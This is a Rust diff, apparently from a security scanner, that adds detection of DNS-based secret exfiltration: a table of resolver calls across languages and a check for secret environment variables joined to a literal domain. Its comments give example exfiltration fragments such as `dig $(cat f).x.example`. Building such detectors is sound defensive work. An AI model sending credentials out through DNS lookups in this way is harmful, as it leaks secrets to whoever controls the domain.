@@ -1386,6 +1386,107 @@ fn secret_env_refs(code: &str) -> Vec<String> {
     out
 }
 
+/// Resolver calls of the interpreters' standard libraries, by the text that starts them
+/// (Python `socket.gethostbyname`/`getaddrinfo` and dnspython `resolver.resolve`/`query`;
+/// Node `dns.lookup`/`dns.resolve*` (also `require('dns').resolve`); Ruby `Resolv.getaddress`;
+/// PHP `gethostbyname`/`dns_get_record`; Perl `gethostbyname`; Deno `Deno.resolveDns`; Go
+/// `net.LookupHost`/`LookupIP`/`LookupTXT`; Java `InetAddress.getByName`; .NET
+/// `Dns.GetHostAddresses`/`GetHostEntry`; PowerShell `Resolve-DnsName`). The name is sent to
+/// the resolver and on to the domain's name server.
+const RESOLVER_CALLS: &[&str] = &[
+    "gethostbyname",
+    "getaddrinfo",
+    "resolver.resolve",
+    "resolver.query",
+    "dns.lookup",
+    "dns.resolve",
+    "').resolve",
+    "\").resolve",
+    "').lookup",
+    "\").lookup",
+    "Resolv.getaddress",
+    "dns_get_record",
+    "Deno.resolveDns",
+    "LookupHost",
+    "LookupIP",
+    "LookupTXT",
+    "getByName",
+    "GetHostAddresses",
+    "GetHostEntry",
+    "Resolve-DnsName",
+];
+
+/// A resolver call ([`RESOLVER_CALLS`]) whose name argument holds a secret variable
+/// (`os.environ['AWS_SECRET_ACCESS_KEY']`, `process.env.NPM_TOKEN`) or the whole environment,
+/// with a literal domain after it (`+ '.x.example'`): an upload of that secret to the domain,
+/// as `dig $(cat f).x.example` is. The call's text runs to its closing parenthesis.
+fn resolver_exfil(a: &mut Analyzer, interp: &str, code: &str, ev: &str) {
+    for marker in RESOLVER_CALLS {
+        // Node's `require('dns').resolve`: the quoted module must be `dns`
+        if marker.starts_with(['\'', '"']) && !code.contains("dns") {
+            continue;
+        }
+        for (i, _) in code.match_indices(marker) {
+            let rest = &code[i + marker.len()..];
+            let Some(open) = rest.find('(').filter(|o| rest[..*o].len() <= 12) else {
+                if !marker.contains('-') {
+                    continue;
+                }
+                // `Resolve-DnsName NAME`: the words after it
+                let arg = rest.lines().next().unwrap_or("");
+                resolver_arg(a, interp, arg, ev);
+                continue;
+            };
+            let mut depth = 0usize;
+            let mut end = rest.len();
+            for (j, c) in rest[open..].char_indices() {
+                match c {
+                    '(' => depth += 1,
+                    ')' => {
+                        depth = depth.saturating_sub(1);
+                        if depth == 0 {
+                            end = open + j;
+                            break;
+                        }
+                    }
+                    _ => {}
+                }
+            }
+            resolver_arg(a, interp, &rest[open + 1..end.max(open + 1)], ev);
+        }
+    }
+}
+
+fn resolver_arg(a: &mut Analyzer, interp: &str, arg: &str, ev: &str) {
+    let source = match secret_env_refs(arg).into_iter().next() {
+        Some(v) => format!("<secret {v}>"),
+        None if [
+            "os.environ",
+            "process.env",
+            "%ENV",
+            "ENV.to_h",
+            "os.Environ",
+            "getenv()",
+        ]
+        .iter()
+        .any(|m| arg.contains(m)) =>
+        {
+            "<environment>".to_string()
+        }
+        None => return,
+    };
+    // the literal domain: a quoted text starting with `.` (`'.x.example'`)
+    let domain = arg.split(['\'', '"', '`']).find_map(|piece| {
+        let d = piece.strip_prefix('.')?;
+        let ok = d.contains('.')
+            && d.chars()
+                .all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '.');
+        ok.then(|| d.to_string())
+    });
+    let Some(domain) = domain else { return };
+    a.upload(interp, &domain, Some(source), false, ev);
+}
+
 /// Assignments of a path expression to a plain name, one statement each (`p = …`,
 /// `const p = …`, `my $p = …;`, `$p = …;`), evaluated with [`eval_str`]; at most 16.
 fn path_bindings(code: &str, lang: Lang, home: &str) -> Vec<(String, String)> {
@@ -1636,6 +1737,8 @@ pub(crate) fn scan(
             );
         }
     }
+    // Data sent as a DNS name: a resolver call whose name carries a secret or the environment.
+    resolver_exfil(a, interp, code, &ev_code);
     // Uploads.
     if networked && (env_dump || SENDS.iter().any(|s| code.contains(s)) || posts_positional(code)) {
         let target = urls
